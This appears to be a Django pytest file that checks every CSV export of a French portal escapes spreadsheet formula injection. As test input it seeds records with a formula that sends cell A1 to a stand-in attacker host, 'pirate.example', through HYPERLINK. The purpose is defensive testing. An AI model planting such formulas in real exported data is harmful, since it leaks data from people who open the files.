"""Every CSV export of the URLconf neutralises spreadsheet formulas (one shared writer)."""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from tests.aides.factories import AideFactory
from tests.factories import DepartementFactory, EffectifFactory, PopulationFactory, SourceFactory
from tests.rendezvous.factories import RendezVousFactory

FORMULE = '=HYPERLINK("https://pirate.example/?v="&A1;"Cliquez")'


def _exports_csv(resolver=None, espace=""):
    """The names of every URL pattern whose route ends in .csv."""
    noms = set()
    for motif in (resolver or get_resolver()).url_patterns:
        if isinstance(motif, URLResolver):
            sous = f"{espace}{motif.namespace}:" if motif.namespace else espace
            noms |= _exports_csv(motif, sous)
        elif isinstance(motif, URLPattern) and str(motif.pattern).rstrip("$").endswith(".csv"):
            noms.add(f"{espace}{motif.name}")
    return noms


def _aides(client):
    AideFactory(nom=FORMULE)
    return reverse("aides:export_csv")


def _agenda(client):
    rdv = RendezVousFactory(nom=FORMULE, message="+33 ou -1 ou @SUM(1)")
    client.force_login(rdv.referent.utilisateur)
    return reverse("rendezvous:agenda_export") + f"?referent={rdv.referent_id}"


def _demographie(client):
    dep = DepartementFactory(code="972", nom="Martinique")
    PopulationFactory(annee=2025, departement=dep)
    EffectifFactory(departement=dep, source=SourceFactory(libelle=FORMULE))
    return reverse("demographie:territoire_csv", kwargs={"niveau": "departement", "code": "972"})


def _plan(client):
    from installation import services
    from tests.factories import CommuneFactory, UserFactory
    from tests.installation.factories import EtapeFactory

    etape = EtapeFactory(titre=FORMULE)
    user = UserFactory()
    plan = services.plan_commencer(
        utilisateur=user, parcours=etape.parcours, commune=CommuneFactory()
    )
    services.etape_suivre(plan=plan, etape=etape, fait=False, note=FORMULE)
    client.force_login(user)
    return reverse("installation:plan_csv", args=[plan.pk])


def _opportunites(client):
    from tests.opportunites.factories import OpportuniteFactory

    OpportuniteFactory(titre=FORMULE, publiee=True)
    return reverse("opportunites:export_csv")


PREPARATIONS = {
    "aides:export_csv": _aides,
    "opportunites:export_csv": _opportunites,
    "installation:plan_csv": _plan,
    "rendezvous:agenda_export": _agenda,
    "demographie:territoire_csv": _demographie,
}


# Exports made only of figures and of the portal's own labels: nothing typed by anyone.
SANS_TEXTE_SAISI = {"espace:tableau_de_bord_csv", "opportunites_moderation:bilan_csv"}


def test_chaque_export_csv_est_couvert():
    assert _exports_csv() == set(PREPARATIONS) | SANS_TEXTE_SAISI


@pytest.mark.django_db
def test_l_export_des_accompagnements_neutralise_aussi(client):
    from tests.espace.factories import AccompagnementFactory
    from tests.factories import UserFactory

    accompagnement = AccompagnementFactory(nom=FORMULE)
    agent = UserFactory(agent_ars=True, departements=[accompagnement.departement])
    client.force_login(agent)
    response = client.get(reverse("espace:accompagnements") + "?format=csv")
    assert response.status_code == 200
    texte = response.content.decode("utf-8")
    cellules = [c for ligne in csv.reader(io.StringIO(texte[1:]), delimiter=";") for c in ligne]
    assert "'" + FORMULE in cellules and FORMULE not in cellules


@pytest.mark.django_db
@pytest.mark.parametrize("nom", sorted(PREPARATIONS))
def test_les_formules_sortent_neutralisees(client, nom):
    url = PREPARATIONS[nom](client)
    response = client.get(url)
    assert response.status_code == 200
    texte = response.content.decode("utf-8")
    assert texte.startswith("\ufeff")
    cellules = [c for ligne in csv.reader(io.StringIO(texte[1:]), delimiter=";") for c in ligne]
    assert "'" + FORMULE in cellules
    assert not [c for c in cellules if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.django_db
def test_le_calendrier_du_parcours_neutralise_aussi():
    from installation.services import calendrier_csv
    from tests.installation.factories import EtapeFactory

    etape = EtapeFactory(titre=FORMULE)
    texte = calendrier_csv(parcours=etape.parcours).decode("utf-8-sig")
    cellules = [c for ligne in csv.reader(io.StringIO(texte), delimiter=";") for c in ligne]
    assert "'" + FORMULE in cellules and FORMULE not in cellules
